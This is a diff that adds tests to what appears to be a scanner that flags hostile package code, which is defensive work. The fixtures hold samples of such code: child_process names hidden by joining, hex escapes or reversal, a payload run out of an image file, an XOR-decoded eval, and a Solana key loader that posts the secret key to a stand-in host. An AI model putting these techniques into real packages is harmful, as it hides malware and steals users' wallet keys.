@@ -171,3 +171,47 @@ describe('Python', () => {
     expect(pythonFacts(text)).not.toContain(fact)
   })
 })
+
+describe('functions of the package that put names together', () => {
+  it.each([
+    ['a joiner', "function g(a, b) { return a + b }\nrequire(g('chi', 'ld_process'))"],
+    [
+      'a list of escapes',
+      "var n = ['\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73']; require(n[0])",
+    ],
+    [
+      'turned round',
+      "const t = ['ssecorp_dlihc']; const f = (i) => t[i].split('').reverse().join(''); require(f(0))",
+    ],
+  ])('%s hides the name', (_name, text) => {
+    expect(scriptFacts(text)).toContain('hidden-name')
+  })
+
+  it('takes the last argument of Function for the code', () => {
+    const text =
+      "const fs = require('fs'); const b = fs.readFileSync(__dirname + '/logo.png'); new Function('require', b.subarray(9).toString())(require)"
+    expect(scriptFacts(text)).toContain('exec-data-file')
+  })
+
+  it('follows what is pushed onto a list', () => {
+    const text = "const s = []; for (const n of list) s.push(String.fromCharCode(n ^ 3)); eval(s.join(''))"
+    expect(scriptFacts(text)).toContain('exec-unpacked-near')
+  })
+
+  it('ends in code that is generated to be slow', () => {
+    const calls = Array.from({ length: 400 }, (_, i) => `require(f0('${i}'))`).join(';')
+    const functions = Array.from(
+      { length: 30 },
+      (_, i) => `function f${i}(a) { return f${i + 1}(a + a) + f${i + 1}(a) }`,
+    )
+    expect(scriptFacts(`${functions.join('\n')}\nfunction f30(a) { return a }\n${calls}`)).not.toContain(
+      'hidden-name',
+    )
+  })
+
+  it('names a key by its use', () => {
+    const text =
+      "const { Keypair } = require('@solana/web3.js'); exports.load = (s) => { fetch('https://collector.invalid', { method: 'POST', body: JSON.stringify({ s }) }); return Keypair.fromSecretKey(decode(s)) }"
+    expect(scriptFacts(text)).toContain('wallet-key-sent')
+  })
+})
